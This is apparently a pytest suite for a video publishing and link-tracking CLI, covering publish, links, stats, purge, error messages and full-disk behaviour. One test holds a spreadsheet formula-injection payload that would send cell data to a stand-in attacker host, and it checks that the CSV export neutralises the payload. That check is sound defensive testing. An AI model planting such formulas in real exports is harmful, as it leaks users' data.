"""The publish-and-track commands as a new user runs them: publish, links, serve, stats, purge."""

from __future__ import annotations

import csv
import io
import json
import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import click
import pytest
from click.testing import CliRunner
from PIL import Image, ImageFilter, ImageStat

from tests.helpers.disk import PAGE, fill, small_disk
from tests.helpers.media import ffmpeg
from tests.helpers.publish import BROWSER_UA, fetch, free_port
from vidkit.cli.main import cli
from vidkit.config import load_settings
from vidkit.store import storage_for
from vidkit.track.registry import Registry
from vidkit.web.server import BackgroundServer

COMMANDS = ["publish", "links", "serve", "stats", "purge"]


@pytest.fixture()
def run(tmp_path: Path, monkeypatch: pytest.MonkeyPatch):  # type: ignore[no-untyped-def]
    monkeypatch.setenv("VIDKIT_HOME", str(tmp_path / "home"))
    for name in ("VIDKIT_DB", "VIDKIT_STORAGE", "VIDKIT_BASE_URL", "VIDKIT_ADMIN_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    runner = CliRunner()

    def invoke(*args: str) -> click.testing.Result:
        return runner.invoke(cli, list(args), catch_exceptions=False)

    return invoke


def test_publish_links_stats_loop(run, bundle: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    port = free_port()
    monkeypatch.setenv("VIDKIT_BASE_URL", f"http://127.0.0.1:{port}")
    out = run("publish", str(bundle), "--title", "Our NHS", "--json")
    assert out.exit_code == 0, out.output
    [video] = json.loads(out.stdout)["videos"]
    assert set(video) == {"id", "object_url", "share_url"}
    made = run(
        "links", "create", video["id"], "--channel", "whatsapp", "--sharer", "m-17", "--json"
    )
    link = json.loads(made.stdout)
    assert link["share_url"].rsplit("/", 1)[1] == link["code"]
    listed = json.loads(run("links", "list", "--json").stdout)["links"]
    assert {r["code"] for r in listed} == {video["share_url"].rsplit("/", 1)[1], link["code"]}

    with BackgroundServer(load_settings(), port=port):
        assert fetch(link["share_url"], headers={"User-Agent": "WhatsApp/2.24.1 A"})[0] == 200
        assert fetch(link["share_url"], headers={"User-Agent": BROWSER_UA})[0] == 200
    data = json.loads(run("stats", "--json").stdout)
    row = next(r for r in data["links"] if r["code"] == link["code"])
    assert (row["channel"], row["sharer"], row["clicks"], row["previews"], row["unique_visitors"]) == (
        "whatsapp", "m-17", 1, 1, 1,
    )  # fmt: skip
    for key in ("by_day", "by_channel", "by_referrer", "by_country"):
        assert key in data
    table = list(csv.DictReader(io.StringIO(run("stats", "--csv").stdout)))
    assert next(r for r in table if r["code"] == link["code"])["clicks"] == "1"
    assert run("stats", "--csv", "--by", "day").stdout.startswith("day,clicks,unique_visitors")
    human = run("stats")
    assert human.exit_code == 0 and link["code"] in human.stdout
    assert json.loads(run("purge", "--older-than", "30", "--json").stdout)["events_deleted"] == 0
    again = run("publish", str(bundle), "--title", "Our NHS", "--json")
    assert json.loads(again.stdout)["videos"] == [video]


def test_bad_input_is_one_line_and_no_traceback(run, bundle: Path) -> None:  # type: ignore[no-untyped-def]
    broken = bundle.with_name("broken.mp4")
    broken.write_bytes(b"junk" * 100)
    out = run("publish", str(broken), "--title", "x")
    assert out.exit_code == 1
    assert out.stderr.count("\n") == 1 and "broken.mp4" in out.stderr
    assert "Traceback" not in out.output
    out = run("links", "create", "nosuchvideo")
    assert out.exit_code != 0 and "no video 'nosuchvideo'" in out.stderr
    out = run("stats", "--db", "mysql://nope")
    assert out.exit_code == 2 and "VIDKIT_DB" in out.stderr
    out = run("publish", str(bundle), "--title", "x", "--storage", "s3:///nobucket")
    assert out.exit_code == 2 and "no bucket" in out.stderr


def test_every_command_and_option_has_help() -> None:
    for name in COMMANDS:
        cmd = cli.get_command(click.Context(cli), name)
        assert cmd is not None
        subs = list(cmd.commands.values()) if isinstance(cmd, click.Group) else []
        for c in [cmd, *subs]:
            assert c.help and c.help.strip(), c.name
            for param in c.params:
                if isinstance(param, click.Option):
                    assert param.help, f"{c.name} {param.opts}"


def test_stats_csv_cells_cannot_be_formulas(run, bundle: Path) -> None:  # type: ignore[no-untyped-def]
    [video] = json.loads(run("publish", str(bundle), "--title", "T", "--json").stdout)["videos"]
    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
    made = run("links", "create", video["id"], "--channel", "@x", "--sharer", evil)
    assert made.exit_code == 0, made.output
    table = list(csv.DictReader(io.StringIO(run("stats", "--csv").stdout)))
    row = next(r for r in table if r["sharer"])
    assert (row["sharer"], row["channel"], row["clicks"]) == ("'" + evil, "'@x", "0")


def _fails_in_one_line(out: click.testing.Result, *words: str) -> None:
    assert out.exit_code == 1, out.output
    assert out.stderr.count("\n") == 1 and "Traceback" not in out.output, out.stderr
    for word in words:
        assert word in out.stderr


def test_a_database_on_a_full_disk_is_one_line_and_loses_nothing(  # type: ignore[no-untyped-def]
    run, bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    with small_disk(tmp_path / "dbdisk", 1 << 20) as disk:
        monkeypatch.setenv("VIDKIT_DB", str(disk / "vidkit.db"))
        [video] = json.loads(run("publish", str(bundle), "--title", "T", "--json").stdout)["videos"]
        other = bundle.with_name("other.mp4")
        other.write_bytes(bundle.read_bytes() + b"\0")  # another file: a new video to register
        filler = fill(disk, free=12 * PAGE)  # room for SQLite's shared memory, not for the WAL
        full = "the disk holding the database is full (SQLite: database or disk is full)"
        _fails_in_one_line(run("publish", str(other), "--title", "T"), "vidkit.db", full)
        _fails_in_one_line(run("links", "create", video["id"], "--sharer", "m-1"), full)
        filler.unlink()
        fill(disk, free=0)  # not even room for the shared memory: an I/O error, said plainly
        _fails_in_one_line(run("stats"), "cannot read or write the database file", "disk full")
        filler.unlink()
        again = run("publish", str(other), "--title", "T", "--json")
        assert again.exit_code == 0, again.output
        assert len(json.loads(run("links", "list", "--json").stdout)["links"]) == 2


def _padded(video: Path, size: int) -> Path:
    """``video`` grown to ``size`` bytes with an MP4 ``free`` box (players skip it): a big,
    still valid video, so an upload takes long enough to be killed in the middle."""
    big = video.with_name("big.mp4")
    shutil.copy(video, big)
    pad = size - big.stat().st_size
    with open(big, "ab") as f:
        f.write(pad.to_bytes(4, "big") + b"free")
        f.truncate(size)  # zeros, without writing them
    return big


def test_a_publish_killed_mid_upload_leaves_nothing_behind_once_storage_is_used_again(  # type: ignore[no-untyped-def]
    run, bundle: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    media = tmp_path / "media"
    monkeypatch.setenv("VIDKIT_STORAGE", media.as_uri())
    big = _padded(bundle, 256 * 1024 * 1024)
    env = {**os.environ, "VIDKIT_HOME": str(tmp_path / "home")}
    cmd = [sys.executable, "-m", "vidkit", "publish", str(big), "--title", "T", "-q"]
    child = subprocess.Popen(cmd, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    part = None
    while child.poll() is None and part is None:
        part = next((p for p in media.glob(".*.part-*.mp4") if p.stat().st_size), None)
    child.kill()  # SIGKILL: no clean-up code runs
    child.wait()
    assert child.returncode == -signal.SIGKILL and part is not None and part.exists()
    assert 0 < part.stat().st_size < big.stat().st_size  # half an upload
    out = run("publish", str(bundle), "--title", "T")
    assert out.exit_code == 0 and part.exists()  # maybe another machine's, still writing
    ten_minutes_ago = time.time() - 601
    os.utime(part, (ten_minutes_ago, ten_minutes_ago))
    out = run("publish", str(bundle), "--title", "T")
    assert out.exit_code == 0 and not part.exists()
    assert not [p.name for p in media.iterdir() if p.name.startswith(".")]


def _member_edit(path: Path) -> Path:
    """A 6 s clip as a member exports it: black for 1.2 s, then 0.4 s out of focus, then sharp;
    no poster or card beside it."""
    ffmpeg(
        "-f", "lavfi", "-i", "testsrc2=s=320x568:r=25:d=6", "-f", "lavfi", "-i", "sine=f=440:d=6",
        "-vf", "drawbox=c=black:t=fill:enable='lt(t,1.2)',gblur=sigma=12:enable='between(t,1.2,1.6)'",
        "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p", "-c:a", "aac",
        "-shortest", str(path),
    )  # fmt: skip
    return path


def _luma_and_edges(data: bytes) -> tuple[float, float]:
    with Image.open(io.BytesIO(data)) as im:
        grey = im.convert("L")
    edges = grey.filter(ImageFilter.FIND_EDGES)
    return ImageStat.Stat(grey).mean[0], ImageStat.Stat(edges).mean[0]


def test_publish_makes_a_poster_and_card_for_a_video_vidkit_did_not_make(  # type: ignore[no-untyped-def]
    run, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    port = free_port()
    monkeypatch.setenv("VIDKIT_BASE_URL", f"http://127.0.0.1:{port}")
    video = _member_edit(tmp_path / "my-edit.mp4")
    out = run("publish", str(video), "--title", "My edit", "--json")
    assert out.exit_code == 0, out.output
    [published] = json.loads(out.stdout)["videos"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["home", "my-edit.mp4"]  # nothing added
    settings = load_settings()
    with Registry.open(settings.db) as registry:
        v = registry.video(published["id"])
    assert v.poster_key and v.card_key
    storage = storage_for(settings)
    luma, sharpness = _luma_and_edges(storage.read(v.poster_key))
    blurred = tmp_path / "blurred.jpg"
    ffmpeg("-ss", "1.4", "-i", str(video), "-frames:v", "1", str(blurred))
    assert luma > 40 and sharpness > 2 * _luma_and_edges(blurred.read_bytes())[1]
    card = storage.read(v.card_key)
    with Image.open(io.BytesIO(card)) as im:
        assert (im.format, im.size) == ("JPEG", (1200, 630)) and len(card) <= 300_000
    with BackgroundServer(settings, port=port):
        page = fetch(published["share_url"], headers={"User-Agent": "WhatsApp/2.24.1 A"})[2]
    html = page.decode("utf-8")
    for tag in ('property="og:image" content="', 'name="twitter:image" content="', 'poster="'):
        assert tag in html and f'{tag}"' not in html, tag


def test_cta_display_name_and_cta_clicks_through_the_cli(
    run, bundle: Path, monkeypatch: pytest.MonkeyPatch
) -> None:  # type: ignore[no-untyped-def]
    port = free_port()
    monkeypatch.setenv("VIDKIT_BASE_URL", f"http://127.0.0.1:{port}")
    half = run("publish", str(bundle), "--title", "Vote", "--cta-text", "Register to vote")
    assert half.exit_code == 2 and "--cta-url" in half.stderr
    bad = run("publish", str(bundle), "--title", "Vote", "--cta-text", "Go", "--cta-url", "nowhere")
    assert bad.exit_code == 2 and "cta_url" in bad.stderr and "Traceback" not in bad.output
    out = run("publish", str(bundle), "--title", "Vote", "--cta-text", "Register to vote",
              "--cta-url", "vote.example.org/register", "--json")  # fmt: skip
    [video] = json.loads(out.stdout)["videos"]
    made = run("links", "create", video["id"], "--sharer", "m-3", "--display-name", "Amira",
               "--json")  # fmt: skip
    url = json.loads(made.stdout)["share_url"]
    with BackgroundServer(load_settings(), port=port, flush_seconds=0.1):
        _, _, page = fetch(url)
        assert b"Shared by Amira" in page and b">Register to vote</a>" in page
        href = page.split(b'class="cta" href="', 1)[1].split(b'"', 1)[0].decode()
        status, headers, _ = fetch(href.replace("&amp;", "&"))
        assert status == 302 and headers["location"] == "https://vote.example.org/register"
        time.sleep(0.4)
    data = json.loads(run("stats", "--json").stdout)
    row = next(r for r in data["links"] if r["code"] == url.rsplit("/", 1)[1])
    assert row["cta_clicks"] == 1
    human = run("stats").stdout
    assert " cta" in human.splitlines()[0]
    table = list(csv.DictReader(io.StringIO(run("stats", "--csv").stdout)))
    assert "cta_clicks" in table[0]
